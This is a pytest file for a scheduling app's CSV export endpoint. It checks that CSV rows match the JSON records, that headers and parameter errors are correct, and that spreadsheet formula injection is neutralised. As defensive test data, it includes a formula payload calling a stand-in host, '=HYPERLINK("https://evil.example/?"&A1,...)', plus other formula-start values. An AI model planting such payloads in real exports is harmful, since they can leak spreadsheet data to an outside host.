"""``/api/sessions.csv``: the JSON route's records as CSV rows (:mod:`hmis_schedule.table`).

Oracle: ``/api/sessions.json`` with the same parameters, read back; each CSV
row, read with :class:`csv.DictReader`, must be that record with each value
written as :func:`hmis_schedule.table.cell` writes it. Spreadsheet safety is
checked on a schedule whose notes, reason and room start with formula
characters.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date, time

import pytest
from flask.testing import FlaskClient
from hypothesis import given, settings
from hypothesis import strategies as st
from support import BASE, schedule_app

import hmis_schedule
from hmis_schedule import Change, ExtraSession, Modality
from hmis_schedule.record import session_record
from hmis_schedule.table import COLUMNS, FORMULA_STARTS, cell

SCHEDULE = hmis_schedule.clackamas()


def rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "a byte-order mark, for Excel"
    reader = csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def as_cells(record: dict[str, object]) -> dict[str, str]:
    return {name: cell(record[name]) for name in COLUMNS}


def test_the_columns_are_the_records_fields_in_order() -> None:
    record = session_record(SCHEDULE.session(f"first-monday-20261207@{SCHEDULE.uid_domain}"), SCHEDULE)
    assert tuple(record) == COLUMNS


QUERIES = [
    "",
    "lang=es",
    "status=cancelled",
    "status=scheduled&modality=in_person",
    "modality=online&from=2026-09-01&to=2026-12-31&lang=es",
    "from=2027-01-01&to=2031-12-31",
]


@pytest.mark.parametrize("query", QUERIES)
def test_csv_rows_are_the_json_records(client: FlaskClient, query: str) -> None:
    response = client.get(f"/api/sessions.csv?{query}")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    records = client.get(f"/api/sessions.json?{query}").get_json()["sessions"]
    assert rows(response.data) == [as_cells(r) for r in records]


@settings(max_examples=25, deadline=None)
@given(
    first=st.dates(min_value=date(2025, 1, 1), max_value=date(2028, 12, 31)),
    days=st.integers(0, 500),
    modality=st.sampled_from([None, "online", "in_person"]),
    status=st.sampled_from([None, "scheduled", "cancelled"]),
    lang=st.sampled_from([None, "en", "es"]),
)
def test_csv_equals_json_for_any_parameters(
    first: date, days: int, modality: str | None, status: str | None, lang: str | None
) -> None:
    client = CLIENT
    query = {"from": first.isoformat(), "to": date.fromordinal(first.toordinal() + days).isoformat(),
             "modality": modality, "status": status, "lang": lang}  # fmt: skip
    params = {k: v for k, v in query.items() if v is not None}
    response = client.get("/api/sessions.csv", query_string=params)
    records = client.get("/api/sessions.json", query_string=params).get_json()["sessions"]
    assert rows(response.data) == [as_cells(r) for r in records]


CLIENT = schedule_app().test_client()


def test_headers_name_the_file_and_answer_conditionally(client: FlaskClient) -> None:
    response = client.get("/api/sessions.csv?lang=es")
    assert response.headers["Content-Disposition"] == 'inline; filename="clackamas-hmis-sessions-es.csv"'
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    again = client.get("/api/sessions.csv?lang=es", headers={"If-None-Match": response.headers["ETag"]})
    assert again.status_code == 304
    assert client.get("/api/sessions.csv").headers["ETag"] != response.headers["ETag"]


HOSTILE = {
    "notes": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "room": "+1 room",
    "reason": "@SUM(1+1)",
    "location": "-2+3 Main St",
}


def test_formula_cells_are_neutralised_and_the_json_is_untouched() -> None:
    extra = ExtraSession(
        id="hostile", date=date(2026, 12, 9), start=time(10), end=time(12), modality=Modality.IN_PERSON,
        location=HOSTILE["location"], room=HOSTILE["room"], notes=HOSTILE["notes"],
    )  # fmt: skip
    cancelled = Change(slot="first-monday", date=date(2026, 12, 7), cancel=True, reason=HOSTILE["reason"])
    schedule = dataclasses.replace(SCHEDULE, extras=(*SCHEDULE.extras, extra), changes=(*SCHEDULE.changes, cancelled))
    client = schedule_app(schedule).test_client()
    table = {row["uid"]: row for row in rows(client.get("/api/sessions.csv").data)}
    records = {r["uid"]: r for r in client.get("/api/sessions.json").get_json()["sessions"]}
    added = table[f"hostile-20261209@{schedule.uid_domain}"]
    assert added["notes"] == "'" + HOSTILE["notes"]
    assert added["room"] == "'" + HOSTILE["room"]
    assert added["location"].startswith("'")  # the full location starts with the room
    monday = table[f"first-monday-20261207@{schedule.uid_domain}"]
    assert monday["reason"] == "'" + HOSTILE["reason"]
    # no cell a spreadsheet would read as a formula, anywhere in the file
    for row in table.values():
        assert not any(value.startswith(FORMULA_STARTS) for value in row.values())
    assert records[f"hostile-20261209@{schedule.uid_domain}"]["notes"] == HOSTILE["notes"]


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("modality=x", "modality"),
        ("status=maybe", "status"),
        ("lang=fr", "lang"),
        ("from=2026-13-01", "from"),
        ("from=2027-01-10&to=2027-01-01", "to"),
        ("from=2020-01-01&to=2030-01-01", "to"),
        ("lang=en&lang=es", "lang"),
    ],
)
def test_bad_parameters_are_a_json_400_naming_them(client: FlaskClient, query: str, parameter: str) -> None:
    response = client.get(f"/api/sessions.csv?{query}")
    assert response.status_code == 400
    error = response.get_json()["error"]
    assert error["parameter"] == parameter
    assert error["message"].startswith(f"{parameter}: ")
    json_error = client.get(f"/api/sessions.json?{query}").get_json()["error"]
    assert error == json_error, "the same answer as the JSON route's"


def test_base_url_and_bom_keep_spanish_accents_readable() -> None:
    body = schedule_app().test_client().get("/api/sessions.csv?lang=es&status=cancelled").data
    table = rows(body)
    assert any("Día del Trabajo" in row["reason"] for row in table)
    assert all(row["ics_url"].startswith(f"{BASE}/sessions/") for row in table)
